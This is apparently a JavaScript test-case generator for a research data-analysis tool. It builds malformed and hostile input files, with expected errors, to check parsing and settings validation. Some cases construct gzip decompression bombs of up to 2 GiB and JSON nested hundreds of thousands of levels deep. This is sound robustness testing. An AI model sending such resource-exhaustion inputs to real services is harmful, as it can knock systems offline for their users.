// A seeded generator of hostile and careless inputs: every case is a set of
// files and settings with what must happen to it, natively and in the
// browser module alike. The same seed gives the same cases, byte for byte.
import { gzipSync } from 'node:zlib';

// mulberry32: small, fast, and the same on every machine.
export function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WORDS = ['sky', 'sea', 'grass', 'anger', 'envy', 'calm', 'lemon', 'coal', 'snow', 'wine'];

class Maker {
  constructor(seed) {
    this.next = random(seed);
  }
  int(n) {
    return Math.floor(this.next() * n);
  }
  pick(list) {
    return list[this.int(list.length)];
  }
  hex() {
    return '#' + [0, 0, 0].map(() => this.int(256).toString(16).padStart(2, '0')).join('');
  }
  channel() {
    return String(this.int(256));
  }

  // A jsPsych-style human export: every person answers every word in both blocks.
  humanRows(people, words, condition = (b) => `block${b}_target_trial`) {
    const rows = [];
    for (let p = 1; p <= people; ++p) {
      for (const w of words) {
        for (const b of [1, 2]) rows.push([String(p), w, this.channel(), this.channel(), this.channel(), condition(b)]);
      }
    }
    return rows;
  }
  humanCsv(people = 4, words = WORDS.slice(0, 3), extra = {}) {
    const header = extra.header ?? ['participantID', 'word', 'response_r', 'response_g', 'response_b', 'condition'];
    const rows = extra.rows ?? this.humanRows(people, words);
    return [header, ...rows].map((r) => r.join(extra.delimiter ?? ',')).join(extra.eol ?? '\n') + (extra.eol ?? '\n');
  }
  // One row per (individual, word): two hex codes.
  llmCsv(people = 4, words = WORDS.slice(0, 3), labelColumns = null) {
    const header = ['subject_num', 'word', 'hex1', 'hex2'];
    if (labelColumns) header.push(...Object.keys(labelColumns));
    const lines = [header.join(',')];
    for (let p = 1; p <= people; ++p) {
      for (const w of words) {
        const row = [p, w, this.hex(), this.hex()];
        if (labelColumns) row.push(...Object.values(labelColumns).map((v) => (typeof v === 'function' ? v(p, w) : v)));
        lines.push(row.join(','));
      }
    }
    return lines.join('\n') + '\n';
  }
  humanObjects(people = 4, words = WORDS.slice(0, 3)) {
    return this.humanRows(people, words).map(([p, w, r, g, b, c]) => ({
      participantID: p, word: w, response_r: Number(r), response_g: Number(g), response_b: Number(b), condition: c,
    }));
  }
  // Concept task, analysis format: every person answers every question.
  conceptRows(people = 6, concept = 'a finch', others = ['a robin', 'a seal', 'a trout']) {
    const questions = [];
    for (let i = 0; i < others.length; ++i) {
      for (let j = i + 1; j < others.length; ++j) questions.push(`${others[i]} ${others[j]}`);
    }
    const rows = [];
    for (let p = 0; p < people; ++p) {
      for (const q of questions) rows.push([concept, String(p), q, String(this.int(2))]);
    }
    return rows;
  }
  conceptCsv(people = 6, extra = {}) {
    const header = extra.header ?? ['Concept', 'ID', 'Question', 'ChoiceNumber'];
    const rows = extra.rows ?? this.conceptRows(people);
    return [header, ...rows].map((r) => r.join(',')).join('\n') + '\n';
  }
}

const jsonl = (objects) => objects.map((o) => JSON.stringify(o)).join('\n') + '\n';
const MiB = 1 << 20;

// Expectations: `status` (0 analysed, 1 bad input, 2 bad settings), a
// `message` pattern for failures, `issues` {kind: count} for successes;
// `nativeOnly` marks what only a command line can get wrong (a directory,
// an unknown short option).
// `registry`: the settings registry as the module exports it
// (settingsRegistry()); the cases at a setting's limits take them from there.
export function generateCases(seed, registry) {
  const m = new Maker(seed);
  const limit = (analysis, name) => {
    const s = registry.find((e) => e.name === name && e.analyses.includes(analysis));
    if (!s) throw new Error(`the registry has no setting ${name} of ${analysis}`);
    return s;
  };
  const cases = [];
  const add = (cls, id, task, files, expect, extra = {}) => cases.push({ cls, id, task, files, expect, ...extra });
  const color = (cls, id, files, expect, extra) => add(cls, id, 'color', files, expect, extra);
  const concept = (cls, id, files, expect, extra) => add(cls, id, 'concept', files, expect, extra);
  const values = (cls, id, files, expect, extra) => add(cls, id, 'values', files, expect, extra);
  const prompts = (cls, id, kitTask, expect, extra) => add(cls, id, 'prompts', [], expect, { kitTask, ...extra });
  const file = (name, data) => ({ name, data: typeof data === 'string' ? Buffer.from(data) : data });

  // --- 1. Nesting: deep JSON anywhere, used or ignored, is refused by depth, never by a crash.
  const objects = m.humanObjects();
  for (const depth of [65, 100, 1000, 10000, 100000, 300000]) {
    for (const where of ['ignored', 'word']) {
      const nested = '['.repeat(depth) + ']'.repeat(depth);
      const lines = jsonl(objects).split('\n');
      const first = JSON.parse(lines[0]);
      const key = where === 'ignored' ? 'note' : 'word';
      delete first[key];
      lines[0] = JSON.stringify(first).replace(/}$/, `,"${key}":${nested}}`);
      color('nesting', `jsonl-depth-${depth}-${where}`, [file(`deep${depth}.jsonl`, lines.join('\n'))],
        { status: 1, message: /row 1: the JSON is nested more than 64 levels deep/ });
    }
  }
  for (const depth of [70, 5000, 200000]) {
    const nested = '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
    const body = JSON.stringify(objects).replace(/^\[/, `[\n${nested.replace(/^\{"a":/, '{"x":')},\n`);
    color('nesting', `array-object-depth-${depth}`, [file(`deep${depth}.json`, body)],
      { status: 1, message: /row 2: the JSON is nested more than 64 levels deep/ });
  }
  {
    // Within the limit: a nested value becomes its JSON text in an ignored column.
    const nested = '['.repeat(60) + '1' + ']'.repeat(60);
    const body = jsonl(objects).replace(/}\n/, `,"note":${nested}}\n`);
    color('nesting', 'jsonl-depth-61-ignored-ok', [file('ok61.jsonl', body)], { status: 0 });
    const unbalanced = '['.repeat(50000);
    color('nesting', 'jsonl-unclosed-brackets', [file('open.jsonl', jsonl(objects) + `{"x":${unbalanced}\n`)],
      { status: 1, message: /row 25: the JSON is nested more than 64 levels deep/ });
    color('nesting', 'array-unclosed-shallow', [file('open.json', '[{"a":[1,2}]')],
      { status: 1, message: /open\.json: expected a JSON array of objects: .*parse error/ });
    color('nesting', 'jsonl-object-value-as-cell', [file('cellobj.jsonl', jsonl(objects).replace(/"word":"sky"/, '"word":{"w":"sky"}'))],
      { status: 1, message: /a word answered by|only one individual|the word '\{"w":"sky"\}'/ });
  }

  // --- 2. JSON shape: keys that vary, repeat or are not objects.
  for (const lines of [2000, 20000, 60000]) {
    const rows = [];
    for (let i = 0; i < lines; ++i) rows.push(`{"k${i}":${i}}`);
    color('json-shape', `jsonl-new-key-every-line-${lines}`, [file(`keys${lines}.jsonl`, rows.join('\n'))],
      { status: 1, message: /cannot tell which colour format this is \(columns present: k0, k1, .* and \d+ more\)/ });
  }
  for (const people of [50, 400]) {
    const withNotes = m.humanObjects(people, WORDS.slice(0, 2)).map((o, i) => ({ ...o, [`note${i}`]: 'x' }));
    color('json-shape', `jsonl-extra-key-per-row-${people}`, [file(`notes${people}.jsonl`, jsonl(withNotes))], { status: 0 });
  }
  color('json-shape', 'jsonl-duplicate-key', [file('dup.jsonl', jsonl(objects).replace(/"word":"sky"/, '"word":"sky","word":"sea"'))],
    { status: 1, message: /dup\.jsonl, row 1, column 'word': the key appears twice in one object/ });
  color('json-shape', 'jsonl-keys-differ-by-case', [file('case.jsonl', jsonl(objects).replace(/"word":"sky"/, '"word":"sky","Word":"sea"'))],
    { status: 1, message: /column 'Word': the column name appears twice \(columns 2 and 3\)/ });
  color('json-shape', 'jsonl-line-is-array', [file('arr.jsonl', jsonl(objects) + '[1,2]\n')],
    { status: 1, message: /arr\.jsonl, row 25: expected one JSON object per line, found a line starting with '\['/ });
  color('json-shape', 'jsonl-line-is-number', [file('num.jsonl', jsonl(objects.slice(0, 3)) + '42\n' + jsonl(objects.slice(3)))],
    { status: 1, message: /num\.jsonl, row 4: expected one JSON object per line/ });
  color('json-shape', 'jsonl-two-objects-one-line', [file('two.jsonl', jsonl(objects).replace('}\n', '} {"a":1}\n'))],
    { status: 1, message: /two\.jsonl, row 1: expected one JSON object per line: .*parse error/ });
  color('json-shape', 'array-of-numbers', [file('nums.json', '[1,2,3]')],
    { status: 1, message: /^nums\.json: the file has a header but no data rows$/ });
  color('json-shape', 'array-with-scalar-element', [file('mixed.json', JSON.stringify([objects[0], 7, objects[1]]))],
    { status: 1, message: /mixed\.json, row 1: expected a JSON object \{"column": value, \.\.\.\}, found a value/ });
  color('json-shape', 'array-element-rows-are-lines', [file('lines.json', '[\n' + objects.map((o) => JSON.stringify(o)).join(',\n\n') + '\n]')],
    { status: 0 });
  {
    const bad = objects.map((o) => ({ ...o }));
    bad[5].response_g = 'x';
    const text = '[\n' + bad.map((o) => JSON.stringify(o)).join(',\n\n') + '\n]';
    color('json-shape', 'array-error-row-is-line', [file('line.json', text)],
      { status: 1, message: /line\.json, row 12, column 'response_g': expected a colour channel, an integer from 0 to 255, found 'x'/ });
  }
  color('json-shape', 'array-empty', [file('empty.json', '[]')], { status: 1, message: /empty\.json: the file holds no JSON objects/ });
  color('json-shape', 'jsonl-empty-objects', [file('empty.jsonl', '{}\n{}\n')],
    { status: 1, message: /empty\.jsonl, row 1: cannot tell which colour format this is/ });
  color('json-shape', 'jsonl-bad-utf8-in-string', [file('utf.jsonl', Buffer.concat([Buffer.from('{"word":"sk'), Buffer.from([0xff]), Buffer.from('y"}\n')]))],
    { status: 1, message: /utf\.jsonl, row 1: expected one JSON object per line: .*invalid string/ });
  color('json-shape', 'jsonl-huge-string-message-short', [file('long.jsonl', jsonl(objects).replace('"sky"', `"${'x'.repeat(2 * MiB)}`))],
    { status: 1, message: /^long\.jsonl, row 1: expected one JSON object per line: .{0,260}$/ });
  color('json-shape', 'csv-header-starts-with-bracket', [file('bracket.csv', m.humanCsv(4, WORDS.slice(0, 2), {
    header: ['[participantID]', 'word', 'response_r', 'response_g', 'response_b', 'condition'] }))],
    { status: 0 }, { columns: { individual: '[participantID]' } });
  color('json-shape', 'csv-header-starts-with-brace', [file('brace.csv', m.humanCsv(4, WORDS.slice(0, 2), {
    header: ['{participantID}', 'word', 'response_r', 'response_g', 'response_b', 'condition'] }))],
    { status: 0 }, { columns: { individual: '{participantID}' }, format: 'human-long' });
  for (const [id, value, ok] of [['float-text', '1e2', false], ['hex-text', '"0x1F"', false], ['integer', '17', true],
    ['float-zero', '17.0', true], ['negative', '-3', false], ['bool', 'true', false], ['null', 'null', false]]) {
    const body = jsonl(objects).replace(/"response_r":\d+/, `"response_r":${value}`);
    color('json-shape', `jsonl-channel-${id}`, [file(`ch-${id}.jsonl`, body)],
      ok ? { status: 0 } : { status: 1, message: /row 1, column 'response_r': expected a colour channel/ });
  }

  // --- 3. Concept shape: memory in proportion to answers given, linear label parsing.
  for (const rows of [3000, 30000]) {
    const lines = [['Concept', 'ID', 'Question', 'ChoiceNumber']];
    for (let i = 0; i < rows; ++i) lines.push(['a finch', `p${i}`, `q${i} r${i}`, String(i % 2)]);
    concept('concept-shape', `every-row-new-individual-and-question-${rows}`, [file(`sparse${rows}.csv`, lines.map((l) => l.join(',')).join('\n'))],
      { status: 0, issues: { incomplete_individual: rows } });
  }
  for (const words of [2000, 40000]) {
    const label = Array.from({ length: words }, (_, i) => `w${i}`).join(' ');
    const rows = m.conceptRows(4).map((r, i) => (i === 0 ? [r[0], r[1], `"${label}"`, r[3]] : r));
    concept('concept-shape', `question-label-of-${words}-words`, [file(`label${words}.csv`, m.conceptCsv(0, { rows }))],
      { status: 0, issues: { incomplete_individual: 4 } });
  }
  {
    const long = 'x'.repeat(5000);
    const rows = m.conceptRows(4, long.slice(0, 300), [`${long} a`, 'b', 'c']);
    concept('concept-shape', 'long-concept-names', [file('longnames.csv', m.conceptCsv(0, { rows }))], { status: 0 });
  }
  for (const [id, value, ok] of [['zero', '0', true], ['one-point-zero', '1.0', true], ['two', '2', false], ['hex', '0x1', false],
    ['exponent', '1e0', false], ['minus-zero', '-0', false], ['space-inside', '1 0', false], ['empty', '', false], ['half', '0.5', false]]) {
    const rows = m.conceptRows(4);
    rows[2][3] = value;
    concept('concept-shape', `choice-number-${id}`, [file(`choice-${id}.csv`, m.conceptCsv(0, { rows }))],
      ok ? { status: 0 } : { status: 1, message: /row 4, column 'ChoiceNumber': expected 0 \(the first choice named in the question\) or 1 \(the second\), found/ });
  }
  {
    const rows = m.conceptRows(4);
    concept('concept-shape', 'one-individual', [file('one.csv', m.conceptCsv(0, { rows: rows.map((r) => [r[0], '7', r[2], r[3]]) }))],
      { status: 1, message: /one\.csv, row 2, column 'ID': every answer in this file is by one individual \('7'\)/ });
    const two = m.conceptRows(4);
    two.push(['a seal', '0', two[0][2], '1']);
    concept('concept-shape', 'one-question-two-concepts', [file('twoc.csv', m.conceptCsv(0, { rows: two }))],
      { status: 1, message: /twoc\.csv, row \d+, column 'Concept': individual '0' answers question 'a robin a seal' for concept 'a seal', but already answered it for concept 'a finch'/ });
    const repeated = m.conceptRows(4);
    repeated.push([...repeated[0]]);
    concept('concept-shape', 'repeated-answer-counted', [file('rep.csv', m.conceptCsv(0, { rows: repeated }))],
      { status: 0, issues: { repeated_answer: 1 } });
    const incomplete = m.conceptRows(5);
    incomplete.pop();
    concept('concept-shape', 'incomplete-individual-counted', [file('inc.csv', m.conceptCsv(0, { rows: incomplete }))],
      { status: 0, issues: { incomplete_individual: 1 } });
    const manyPops = [['population', 'Concept', 'ID', 'Question', 'ChoiceNumber']];
    for (let i = 0; i < 2000; ++i) manyPops.push([`pop${i}`, 'a finch', String(i % 2), 'a robin a seal', '0']);
    // The report holds a few kilobytes per population, whatever the input.
    concept('concept-shape', 'a-population-per-row', [file('pops.csv', manyPops.map((r) => r.join(',')).join('\n'))], { status: 0 },
      { reportPerRow: 4096 });
    const hugeId = m.conceptRows(4);
    hugeId[0][1] = 'i'.repeat(MiB);
    concept('concept-shape', 'megabyte-individual-id', [file('hugeid.csv', m.conceptCsv(0, { rows: hugeId }))], { status: 0,
      issues: { incomplete_individual: 2 } });
    const raw = ['subject_num,target,choice1,choice2,generation1,generation2'];
    for (let p = 0; p < 4; ++p) raw.push(`${p},a finch,a robin,a seal,"${m.pick(['a robin', 'A ROBIN!', 'the seal'])}","${m.pick(['a seal', 'neither'])}"`);
    concept('concept-shape', 'raw-replies', [file('raw.csv', raw.join('\n'))], { status: 0 });
    const same = [...raw];
    same[1] = '0,a finch,a robin,A Robin,a robin,a robin';
    concept('concept-shape', 'raw-same-choices', [file('same.csv', same.join('\n'))],
      { status: 1, message: /same\.csv, row 2, column 'choice2': the two choices are the same \('a robin'\)/ });
  }

  // --- 4. gzip: the budget holds while inflating; damage is named.
  const plain = m.humanCsv(6);
  const gz = gzipSync(Buffer.from(plain));
  color('gzip', 'gzip-ok', [file('ok.csv.gz', gz)], { status: 0 });
  color('gzip', 'gzip-two-members', [file('two.gz', Buffer.concat([gzipSync(Buffer.from(plain.slice(0, 200))), gzipSync(Buffer.from(plain.slice(200)))]))], { status: 0 });
  color('gzip', 'gzip-of-json-lines', [file('ok.jsonl.gz', gzipSync(Buffer.from(jsonl(objects))))], { status: 0 });
  for (const cut of [10, 20, gz.length - 4]) {
    color('gzip', `gzip-truncated-${cut}`, [file(`cut${cut}.gz`, gz.subarray(0, cut))],
      { status: 1, message: /cut\d+\.gz: cannot decompress this gzip file: / });
  }
  {
    const flipped = Buffer.from(gz);
    flipped[flipped.length - 6] ^= 0xff;
    color('gzip', 'gzip-bad-crc', [file('crc.gz', flipped)], { status: 1, message: /crc\.gz: cannot decompress this gzip file: the checksum does not match/ });
    const header = Buffer.from(gz);
    header[2] = 7;
    color('gzip', 'gzip-bad-method', [file('method.gz', header)], { status: 1, message: /method\.gz: cannot decompress this gzip file/ });
    color('gzip', 'gzip-magic-only', [file('magic.gz', Buffer.from([0x1f, 0x8b]))], { status: 1, message: /magic\.gz: cannot decompress this gzip file/ });
  }
  // Bombs are built from repeated gzip members, so making them costs little.
  const zeroMember = gzipSync(Buffer.alloc(16 * MiB), { level: 9 });
  for (const mib of [96, 304, 2048]) {
    const zeros = Buffer.concat(Array(mib / 16).fill(zeroMember));
    color('gzip', `gzip-bomb-zeros-${mib}MiB`, [file(`bomb${mib}.gz`, zeros)],
      { status: 1, message: /bomb\d+\.gz: this gzip file decompresses to more than \d+ MiB/ }, { budget: true });
  }
  {
    const header = gzipSync(Buffer.from('participantID,word,response_r,response_g,response_b,condition\n'));
    const rowMember = gzipSync(Buffer.from('1,sky,1,2,3,block1\n'.repeat(MiB)), { level: 9 });
    color('gzip', 'gzip-short-rows-over-budget', [file('rows.csv.gz', Buffer.concat([header, ...Array(100).fill(rowMember)]))],
      { status: 1, message: /rows\.csv\.gz: this gzip file decompresses to more than \d+ MiB/ }, { budget: true });
    const nested = gzipSync(gzipSync(Buffer.alloc(8 * MiB)));
    color('gzip', 'gzip-inside-gzip', [file('nested.gz', nested)], { status: 1, message: /nested\.gz, row 1|nested\.gz: the text is not UTF-8|not UTF-8/ });
  }

  // --- 5. Colour values: strict numbers, exact conditions, counted single answers.
  for (const [id, value, ok] of [['hex', '0x1F', false], ['hex-float', '0x1p4', false], ['exponent', '1e2', false], ['plus', '+5', false],
    ['minus', '-1', false], ['too-big', '256', false], ['fraction', '12.5', false], ['float-zero', '12.0', true], ['padded', ' 12 ', true],
    ['inf', 'inf', false], ['nan', 'nan', false], ['space-inside', '1 2', false], ['leading-zeros', '007', true], ['long-digits', '0000000000000000001', false],
    ['unicode-digit', '１２', false], ['comma-decimal', '12,0', false]]) {
    const rows = m.humanRows(4, WORDS.slice(0, 2));
    rows[1][3] = value.includes(',') ? `"${value}"` : value;
    color('colour-values', `channel-${id}`, [file(`ch-${id}.csv`, m.humanCsv(0, [], { rows }))],
      ok ? { status: 0 } : { status: 1, message: /row 3, column 'response_g': expected a colour channel, an integer from 0 to 255, found/ });
  }
  for (const [id, value, ok] of [['ok', '#a0B1c2', true], ['short', '#abc', false], ['rgb', '1,2,3', true], ['rgb-hex', '0x1,2,3', false],
    ['rgb-exp', '1e1,2,3', false], ['rgb-four', '1,2,3,4', false], ['missing', 'NA', true]]) {
    const lines = ['population,individual,word,block,colour'];
    for (let p = 1; p <= 3; ++p) for (const w of WORDS.slice(0, 2)) for (const b of [1, 2]) lines.push(`gpt,${p},${w},${b},"${m.hex()}"`);
    lines[2] = `gpt,1,sky,2,"${value}"`;
    color('colour-values', `colour-cell-${id}`, [file(`cc-${id}.csv`, lines.join('\n'))],
      ok ? { status: 0 } : { status: 1, message: /row 3, column 'colour': expected a colour as #rrggbb \(six hex digits\) or r,g,b, found/ });
  }
  {
    // Practice rows first, named like block 1: skipped and counted, never read as block 1.
    const practice = m.humanRows(4, WORDS.slice(0, 3), () => 'block1_practice_trial');
    const rows = [...practice, ...m.humanRows(4, WORDS.slice(0, 3))];
    color('colour-values', 'practice-rows-first', [file('practice.csv', m.humanCsv(0, [], { rows }))],
      { status: 0, issues: { not_a_target_trial: 24 } });
    for (const [id, cond, counted] of [['block1', 'block1', false], ['Block 1', 'Block 1', false], ['one', '1', false], ['upper', 'BLOCK1_TARGET_TRIAL', false],
      ['block10', 'block10', true], ['block1x', 'block1x', true], ['practice2', 'block2_practice_trial', true], ['instructions', 'instructions', true], ['empty', '', true]]) {
      const r = m.humanRows(4, WORDS.slice(0, 2));
      r.push(['1', 'sky', '1', '2', '3', cond]);
      color('colour-values', `condition-${id}`, [file(`cond-${id.replace(/ /g, '')}.csv`, m.humanCsv(0, [], { rows: r }))],
        counted ? { status: 0, issues: { not_a_target_trial: 1 } } : { status: 0, issues: { duplicate_answer: 1 } });
    }
    for (const singles of [1, 50, 5000]) {
      const r = m.humanRows(4, WORDS.slice(0, 2));
      for (let i = 0; i < singles; ++i) r.push([`solo${i}`, 'sky', '1', '2', '3', 'block1_target_trial']);
      color('colour-values', `single-answers-${singles}`, [file(`single${singles}.csv`, m.humanCsv(0, [], { rows: r }))],
        { status: 0, issues: { single_answer: singles } });
    }
    const r = m.humanRows(1, WORDS.slice(0, 2));
    color('colour-values', 'word-by-one-individual', [file('onlyone.csv', m.humanCsv(0, [], { rows: r }))],
      { status: 1, message: /onlyone\.csv, row 4, column 'word': the word 'sea' was answered by only one individual of population 'human'/ });
    const empties = m.humanRows(4, WORDS.slice(0, 2));
    empties[0][2] = empties[0][3] = empties[0][4] = '';
    color('colour-values', 'three-empty-channels-invalid', [file('emptych.csv', m.humanCsv(0, [], { rows: empties }))],
      { status: 0, issues: { invalid_reply: 1 } });
    color('colour-values', 'llm-reply-without-colour', [file('reply.csv', 'subject_num,word,generation1,generation2\n1,sky,"#112233 it is","no idea"\n2,sky,"#445566","#778899"\n3,sky,"#000000","#ffffff"\n')],
      { status: 0, issues: { invalid_reply: 1 } });
  }

  // --- 6. Settings: one validator, the same limits and words everywhere.
  const small = [file('small.csv', m.humanCsv(4, WORDS.slice(0, 2)))];
  const optionCase = (id, options, message, status = 2) =>
    color('settings', id, small, status === 0 ? { status: 0 } : { status, message }, { options });
  const jsdSamples = limit('color', 'jsd-samples');
  for (const v of [0, 1, jsdSamples.min / 2, jsdSamples.min - 1]) optionCase(`jsd-samples-${v}`, { 'jsd-samples': v }, /^jsd-samples \(Monte Carlo draws per Gaussian\) must be a whole number from 100 to 100000000, got '\d+'$/);
  optionCase(`jsd-samples-${jsdSamples.min}`, { 'jsd-samples': jsdSamples.min }, null, 0);
  optionCase('jsd-samples-negative', { 'jsd-samples': -5 }, /got '-5'/);
  optionCase('jsd-samples-fraction', { 'jsd-samples': 150.5 }, /got '150\.5'/);
  optionCase('jsd-samples-huge', { 'jsd-samples': 1e21 }, /got '1e\+21'/);
  const seedLimit = limit('color', 'seed');
  optionCase('seed-2-53', { seed: seedLimit.max + 1 }, /^seed \(the random seed\) must be a whole number from 0 to 9007199254740991, got '9007199254740992'$/);
  optionCase('seed-max', { seed: seedLimit.max }, null, 0);
  optionCase('seed-negative', { seed: -1 }, /seed .* got '-1'/);
  optionCase('bootstrap-2-32', { bootstrap: 2 ** 32 }, /bootstrap .* got '4294967296'/);
  optionCase('pairs-unknown', { pairs: 'some' }, /^pairs must be all or paper, got 'some'$/);
  optionCase('delta-e-unknown', { 'delta-e': 'cie94' }, /^delta-e must be cie76 or ciede2000, got 'cie94'$/);
  color('settings', 'reference-unknown', small, { status: 2, message: /reference/ }, { options: { reference: 'martians' } });
  const conceptSmall = [file('c.csv', m.conceptCsv(6))];
  const conceptOption = (id, options, message, status = 2) =>
    concept('settings', id, conceptSmall, status === 0 ? { status: 0 } : { status, message }, { options });
  conceptOption('subsets-negative', { subsets: '-5' }, /^subsets must be whole numbers from 1 to 1000000 separated by commas, got '-5'$/);
  conceptOption('subsets-trailing-comma', { subsets: '5,' }, /got '5,'$/);
  conceptOption('subsets-leading-comma', { subsets: ',5' }, /got ',5'$/);
  conceptOption('subsets-zero', { subsets: '0' }, /got '0'$/);
  conceptOption('subsets-plus', { subsets: '+5' }, /got '\+5'$/);
  conceptOption('subsets-space', { subsets: '5, 10' }, /got '5, 10'$/);
  conceptOption('subsets-hex', { subsets: '0x10' }, /got '0x10'$/);
  conceptOption('subsets-too-big', { subsets: '1000001' }, /got '1000001'$/);
  conceptOption('subsets-ok', { subsets: '2,5' }, null, 0);
  conceptOption('iterations-2-32', { iterations: 2 ** 32 }, /^iterations \(Gibbs iterations per chain\) must be a whole number from 1 to 10000000, got '4294967296'$/);
  conceptOption('iterations-2-32-plus-20', { iterations: 2 ** 32 + 20 }, /got '4294967316'$/);
  conceptOption('iterations-zero', { iterations: 0 }, /got '0'$/);
  conceptOption('burn-in-not-below-iterations', { iterations: 20, 'burn-in': 20 }, /the burn-in \(20\) must be smaller than the number of iterations \(20\)/);
  conceptOption('chains-1001', { chains: limit('concept', 'chains').max + 1 }, /chains .* got '1001'$/);
  conceptOption('alpha-zero', { alpha: 0 }, /^alpha \(the Beta prior of each question\) must be a number from 1e-06 to 1e\+06, got '0'$/);
  conceptOption('alpha-negative', { alpha: -0.5 }, /got '-0\.5'$/);
  conceptOption('alpha-nan', { alpha: NaN }, /got 'NaN'$/);
  conceptOption('alpha-infinity', { alpha: Infinity }, /got 'Infinity'$/);
  conceptOption('alpha-ok', { alpha: 0.5 }, null, 0);
  conceptOption('prior-unknown', { prior: 'flat' }, /^prior must be simplicity or uniform, got 'flat'$/);
  conceptOption('min-people-negative', { 'min-people': -1 }, /^min-people \(the least people a concept needs to count in the comparisons\) must be a whole number from 0 to 1000000, got '-1'$/);
  conceptOption('min-people-fraction', { 'min-people': 2.5 }, /got '2\.5'$/);
  conceptOption('min-people-too-many', { 'min-people': 1000001 }, /got '1000001'$/);
  conceptOption('min-people-zero', { 'min-people': 0 }, null, 0);
  conceptOption('min-people-above-everyone', { 'min-people': limit('concept', 'min-people').max }, null, 0);
  // Numeric answers: three people, two items, both blocks (no random draws,
  // so the cases after these stay as they were).
  const valuesSmall = [file('v.csv', ['population,individual,item,block,value',
    ...[1, 2, 3].flatMap((p) => ['q1', 'q2'].flatMap((q) => [1, 2].map((b) => `people,${p},${q},${b},${p * b + q.length}`)))].join('\n') + '\n')];
  const valuesOption = (id, options, message, status = 2) =>
    values('settings', id, valuesSmall, status === 0 ? { status: 0 } : { status, message }, { options });
  valuesOption('values-ok', { pairs: 'paper', scale: 'raw', unit: 'people', seed: 3 }, null, 0);
  valuesOption('values-pairs-unknown', { pairs: 'some' }, /^pairs must be all or paper, got 'some'$/);
  valuesOption('values-scale-unknown', { scale: 'log' }, /^scale must be pooled-sd or raw, got 'log'$/);
  valuesOption('values-seed-2-53', { seed: 2 ** 53 }, /^seed \(the random seed\) must be a whole number from 0 to 9007199254740991, got '9007199254740992'$/);
  valuesOption('values-seed-negative', { seed: -1 }, /^seed .* got '-1'$/);
  valuesOption('values-bootstrap-fraction', { bootstrap: 2.5 }, /^bootstrap \(bootstrap resamples\) must be a whole number from 0 to 10000000, got '2\.5'$/);
  valuesOption('values-bootstrap-too-many', { bootstrap: limit('values', 'bootstrap').max + 1 }, /got '10000001'$/);
  // An answer's number is a signed plain decimal: what strtod alone would
  // also read (hex, infinity, overflow) names the row, the column and the
  // text; nan is a missing-answer marker, counted as such.
  for (const [id, cell, ok] of [['hex', '0x1F', false], ['hex-float', '0x1p4', false], ['inf', 'inf', false], ['minus-infinity', '-Infinity', false],
    ['overflow', '1e999', false], ['comma-decimal', '"1,5"', false], ['signed-exponent', '-2.5e1', true], ['plus', '+3', true], ['leading-point', '.5', true]]) {
    const text = ['population,individual,item,block,value', 'people,1,q1,1,1', 'people,1,q1,2,2', 'people,2,q1,1,3',
      `people,2,q1,2,${cell}`, 'people,3,q1,1,4', 'people,3,q1,2,5'].join('\n') + '\n';
    const shown = cell.replace(/"/g, '');
    values('numeric-values', `value-${id}`, [file(`value-${id}.csv`, text)],
      ok ? { status: 0 } : { status: 1, message: new RegExp(`value-${id}\\.csv.*row 5.*value.*expected a number \\(e\\.g\\. 12, -0\\.5, 3e4\\), found '${shown.replace(/[.+]/g, '\\$&')}'`) });
  }
  // Numeric answers read with renamed columns and a named format, as the
  // page's file settings give them: the module reads them as the CLI does.
  const renamed = [file('renamed.csv', ['group,who,item,block,rating',
    ...[1, 2, 3].flatMap((p) => ['q1', 'q2'].flatMap((q) => [1, 2].map((b) => `people,${p},${q},${b},${p + b * 2}`)))].join('\n') + '\n')];
  values('settings', 'values-columns-renamed', renamed, { status: 0 }, { columns: { population: 'group', individual: 'who', value: 'rating' }, format: 'long' });
  values('settings', 'values-column-missing', renamed, { status: 1, message: /^renamed\.csv, row 1: expected a column 'value'/ }, { columns: { population: 'group', individual: 'who' } });
  values('settings', 'values-column-role-unknown', renamed, { status: 2, message: /^unknown column role 'hex1' \(roles: / }, { columns: { hex1: 'x' } });
  // The kit's requests: the same validator; a request file made is the same bytes in both builds.
  const promptsOption = (id, kitTask, options, message, status = 2) =>
    prompts('settings', id, kitTask, status === 0 ? { status: 0 } : { status, message }, { options });
  promptsOption('prompts-color-ok', 'color', { individuals: 2, condition: 'identity', 'persona-as': 'system', temperature: '1.5', seed: 7 }, null, 0);
  promptsOption('prompts-concept-ok', 'concept', { individuals: 3, wording: 'corrected', concepts: 'politicians', temperature: '0', seed: limit('prompts', 'seed').max }, null, 0);
  promptsOption('prompts-concept-list-ok', 'concept', { concepts: 'a dog, a cat, a wolf, a fox', individuals: 0 }, null, 0);
  const individuals = /^individuals \(simulated individuals, 0 for the default\) must be a whole number from 0 to 1000000, got /;
  promptsOption('prompts-individuals-too-many', 'color', { individuals: 1000001 }, new RegExp(individuals.source + "'1000001'$"));
  promptsOption('prompts-individuals-2-32', 'color', { individuals: 2 ** 32 }, new RegExp(individuals.source + "'4294967296'$"));
  promptsOption('prompts-individuals-fraction', 'concept', { individuals: 2.5 }, new RegExp(individuals.source + "'2\\.5'$"));
  promptsOption('prompts-individuals-negative', 'color', { individuals: -1 }, new RegExp(individuals.source + "'-1'$"));
  const temperature = /^temperature \(the sampling temperature\) must be a number from 0 to 100, got /;
  promptsOption('prompts-temperature-above', 'color', { temperature: '100.5' }, new RegExp(temperature.source + "'100\\.5'$"));
  promptsOption('prompts-temperature-negative', 'color', { temperature: '-0.5' }, new RegExp(temperature.source + "'-0\\.5'$"));
  promptsOption('prompts-temperature-text', 'concept', { temperature: 'warm' }, new RegExp(temperature.source + "'warm'$"));
  // Empty is not given, in both builds: the request leaves it to the model.
  promptsOption('prompts-temperature-empty', 'color', { temperature: '' }, null, 0);
  promptsOption('prompts-seed-2-32', 'concept', { seed: 2 ** 32 }, /^seed \(the concept targets and generated personas\) must be a whole number from 0 to 4294967295, got '4294967296'$/);
  promptsOption('prompts-seed-negative', 'color', { seed: -1 }, /^seed .* got '-1'$/);
  promptsOption('prompts-model-blank', 'color', { model: '  ' }, /^model \(the model every request goes to\) is required$/);
  promptsOption('prompts-task-unknown', 'colors', {}, /^task must be color or concept, got 'colors'$/);
